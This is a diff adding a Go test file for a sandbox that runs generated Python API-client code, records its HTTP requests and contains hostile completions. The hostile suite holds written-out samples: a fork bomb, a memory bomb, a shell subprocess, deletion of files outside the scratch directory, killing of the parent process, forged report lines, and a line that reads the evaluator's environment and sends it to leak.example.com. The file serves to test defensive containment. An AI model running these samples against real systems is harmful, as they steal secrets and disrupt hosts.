@@ -1,0 +1,210 @@
+package sandbox
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+)
+
+func newTestRunner(t *testing.T, l Limits) *Runner {
+	t.Helper()
+	r, err := New(context.Background(), Options{Limits: l, ScratchDir: t.TempDir()})
+	if err != nil {
+		t.Skipf("no python sandbox here: %v", err)
+	}
+	t.Cleanup(func() { r.Close() })
+	return r
+}
+
+const goodCode = `import requests
+def get_weather(city, api_key):
+    try:
+        r = requests.get("https://weather.p.rapidapi.com/forecast/" + city,
+                         headers={"X-RapidAPI-Key": api_key}, params={"units": "metric"})
+        r.raise_for_status()
+        return r.json()["list"][0]
+    except requests.exceptions.RequestException:
+        return None
+`
+
+func TestRunRecordsRequests(t *testing.T) {
+	r := newTestRunner(t, Limits{Timeout: 5 * time.Second})
+	tests := []struct {
+		name, code, fn string
+		wantMethod     string
+		wantURL        string
+		wantStatus     Status
+	}{
+		{"requests get", goodCode, "get_weather", "GET", "https://weather.p.rapidapi.com/forecast/London", StatusOK},
+		{"requests session post", "import requests\nclass C:\n    def __init__(self, key):\n        self.s = requests.Session()\n        self.s.headers.update({'x': key})\n    def send(self, text):\n        return self.s.post('https://t.p.rapidapi.com/translate', json={'q': text}).json()\n", "send", "POST", "https://t.p.rapidapi.com/translate", StatusOK},
+		{"httpx async", "import httpx, asyncio\nasync def go(q):\n    async with httpx.AsyncClient(base_url='https://h.p.rapidapi.com') as c:\n        r = await c.get('/search', params={'q': q})\n        return r.json()\n", "go", "GET", "https://h.p.rapidapi.com/search", StatusOK},
+		{"aiohttp", "import aiohttp\nasync def go(q):\n    async with aiohttp.ClientSession() as s:\n        async with s.post('https://a.p.rapidapi.com/v1/x', data={'q': q}) as resp:\n            return await resp.json()\n", "go", "POST", "https://a.p.rapidapi.com/v1/x", StatusOK},
+		{"urllib", "import urllib.request, json\ndef f():\n    req = urllib.request.Request('https://u.p.rapidapi.com/p?x=1', headers={'a': 'b'})\n    with urllib.request.urlopen(req) as r:\n        return json.loads(r.read())\n", "f", "GET", "https://u.p.rapidapi.com/p?x=1", StatusOK},
+		{"http.client", "import http.client\nconn = http.client.HTTPSConnection('c.p.rapidapi.com')\nconn.request('GET', '/v2/list?a=1', headers={'h': 'v'})\nres = conn.getresponse()\ndata = res.read()\n", "", "GET", "https://c.p.rapidapi.com/v2/list?a=1", StatusOK},
+		{"stubbed imports and undefined names", "import pandas as pd\nfrom django.conf import settings\nfrom .models import Thing\nimport requests\ndef f(symbol):\n    logger.info('x')\n    url = settings.BASE + 'x'\n    r = requests.get('https://s.p.rapidapi.com/quote', params={'symbol': symbol, 'k': CONFIG['k']})\n    return pd.DataFrame(r.json())\n", "f", "GET", "https://s.p.rapidapi.com/quote", StatusOK},
+		{"environment lookups", "import os, requests\nKEY = os.environ['RAPIDAPI_KEY']\ndef f():\n    k = os.getenv('RAPIDAPI_KEY')\n    if not k:\n        raise ValueError('no key')\n    return requests.get('https://e.p.rapidapi.com/e', headers={'X-RapidAPI-Key': KEY})\n", "f", "GET", "https://e.p.rapidapi.com/e", StatusOK},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			res, err := r.Run(context.Background(), tt.code, tt.fn)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if res.Status != tt.wantStatus {
+				t.Errorf("status = %s (%s), want %s; stderr %s", res.Status, res.Reason, tt.wantStatus, res.Stderr)
+			}
+			if len(res.Requests) == 0 {
+				t.Fatalf("no request captured (%s %s)", res.Status, res.Reason)
+			}
+			q := res.Requests[0]
+			if q.Method != tt.wantMethod || q.URL != tt.wantURL {
+				t.Errorf("request = %s %s, want %s %s", q.Method, q.URL, tt.wantMethod, tt.wantURL)
+			}
+		})
+	}
+}
+
+func TestRunSyntaxError(t *testing.T) {
+	r := newTestRunner(t, Limits{})
+	res, err := r.Run(context.Background(), "def f(:\n  pass", "f")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if res.Facts.Syntax || res.Status != StatusError {
+		t.Errorf("got syntax=%v status=%s, want a syntax error", res.Facts.Syntax, res.Status)
+	}
+}
+
+// TestHostileSuite runs hostile completions side by side with a good one: the
+// evaluator survives, the good one still scores, and nothing outside the scratch
+// directory changes.
+func TestHostileSuite(t *testing.T) {
+	if testing.Short() {
+		t.Skip("hostile suite takes a few seconds")
+	}
+	outside := t.TempDir()
+	sentinel := filepath.Join(outside, "sentinel.txt")
+	if err := os.WriteFile(sentinel, []byte("untouched"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("SCCG_TEST_SECRET", "s3cr3t-value-from-evaluator")
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	var mu sync.Mutex
+	connected := 0
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			mu.Lock()
+			connected++
+			mu.Unlock()
+			c.Close()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+
+	r := newTestRunner(t, Limits{Timeout: 2 * time.Second, MemoryMB: 512})
+	req := "\nimport requests\nrequests.get('https://ok.p.rapidapi.com/after')\n"
+	tests := []struct {
+		name        string
+		code        string
+		want        []Status
+		wantRequest bool // the request after the hostile part is still captured
+	}{
+		{"infinite loop", "while True:\n    pass\n", []Status{StatusTimeout}, false},
+		{"fork bomb", "import os\nwhile True:\n    os.fork()\n" + req, []Status{StatusError}, true},
+		{"subprocess", "import subprocess\nsubprocess.run(['sh', '-c', 'echo pwned > " + sentinel + "'])\n" + req, []Status{StatusError}, true},
+		{"memory bomb", "x = []\nwhile True:\n    x.append(bytearray(50 * 1024 * 1024))\n", []Status{StatusOOM}, false},
+		{"write outside scratch", "open(" + fmt.Sprintf("%q", sentinel) + ", 'w').write('pwned')\n" + req, []Status{StatusError}, true},
+		{"remove outside scratch", "import os\nos.remove(" + fmt.Sprintf("%q", sentinel) + ")\n" + req, []Status{StatusError}, true},
+		{"write inside scratch", "open('notes.txt', 'w').write('fine')\n" + req, []Status{StatusOK}, true},
+		{"read evaluator env", "import os, requests\nv = os.environ.get('SCCG_TEST_SECRET', '')\ntry:\n    v += open('/proc/%d/environ' % os.getppid()).read()\nexcept Exception:\n    pass\nrequests.get('https://leak.example.com/' + v)\n", []Status{StatusOK, StatusError}, false},
+		{"kill parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + req, []Status{StatusError}, true},
+		{"kill group", "import os, signal\nos.killpg(0, signal.SIGKILL)\n" + req, []Status{StatusError}, true},
+		{"close stdout", "import os, sys\nsys.stdout.close()\nos.close(1)\nos.close(2)\n" + req, []Status{StatusOK}, true},
+		{"print megabytes", "import sys\nfor _ in range(50):\n    sys.stdout.write('x' * 1000000)\n" + req, []Status{StatusOK}, true},
+		{"sys.exit", "import sys\nsys.exit(3)\n" + req, []Status{StatusError}, true},
+		{"os._exit", req + "import os\nos._exit(0)\n", []Status{StatusCrash}, true},
+		{"ctypes", "import ctypes\nctypes.string_at(0)\n" + req, []Status{StatusError}, true},
+		{"segfault", req + "import faulthandler\nfaulthandler._sigsegv()\n", []Status{StatusCrash}, true},
+		{"threads that never end", "import threading\nfor _ in range(3):\n    threading.Thread(target=lambda: [0 for _ in iter(int, 1)]).start()\n" + req, []Status{StatusOK}, true},
+		{"connect to localhost", fmt.Sprintf("import socket\ns = socket.create_connection(('127.0.0.1', %d), 1)\n", port) + req, []Status{StatusError}, true},
+		{"forge report lines", "import os\nfor fd in range(3, 1000):\n    try:\n        os.write(fd, b'x\\treq\\t{\"method\":\"GET\",\"url\":\"https://forged/\"}\\n')\n    except OSError:\n        pass\n" + req, []Status{StatusOK}, true},
+	}
+	var wg sync.WaitGroup
+	good := make(chan Result, 1)
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		res, _ := r.Run(context.Background(), goodCode, "get_weather")
+		good <- res
+	}()
+	results := make([]Result, len(tests))
+	for i, tt := range tests {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			res, err := r.Run(context.Background(), tt.code, "")
+			if err != nil {
+				t.Errorf("%s: evaluator error %v", tt.name, err)
+			}
+			results[i] = res
+		}()
+	}
+	wg.Wait()
+	for i, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			res := results[i]
+			ok := false
+			for _, s := range tt.want {
+				ok = ok || res.Status == s
+			}
+			if !ok {
+				t.Errorf("status = %s (%s), want one of %v", res.Status, res.Reason, tt.want)
+			}
+			found := false
+			for _, q := range res.Requests {
+				if strings.Contains(q.URL, "s3cr3t") {
+					t.Errorf("the evaluator's environment leaked: %s", q.URL)
+				}
+				if strings.Contains(q.URL, "forged") {
+					t.Errorf("a forged report line was accepted: %s", q.URL)
+				}
+				found = found || q.URL == "https://ok.p.rapidapi.com/after"
+			}
+			if tt.wantRequest && !found {
+				t.Errorf("request after the hostile part not captured: %+v (%s %s)", res.Requests, res.Status, res.Reason)
+			}
+		})
+	}
+	g := <-good
+	if g.Status != StatusOK || len(g.Requests) != 1 || g.Requests[0].URL != "https://weather.p.rapidapi.com/forecast/London" {
+		t.Errorf("good completion next to hostile ones: %s %s %+v", g.Status, g.Reason, g.Requests)
+	}
+	if b, err := os.ReadFile(sentinel); err != nil || string(b) != "untouched" {
+		t.Errorf("file outside scratch changed: %q, %v", b, err)
+	}
+	entries, _ := os.ReadDir(r.dir)
+	for _, e := range entries {
+		if strings.HasPrefix(e.Name(), "run-") {
+			t.Errorf("scratch directory %s left behind", e.Name())
+		}
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if connected != 0 {
+		t.Errorf("%d connections reached 127.0.0.1", connected)
+	}
+}
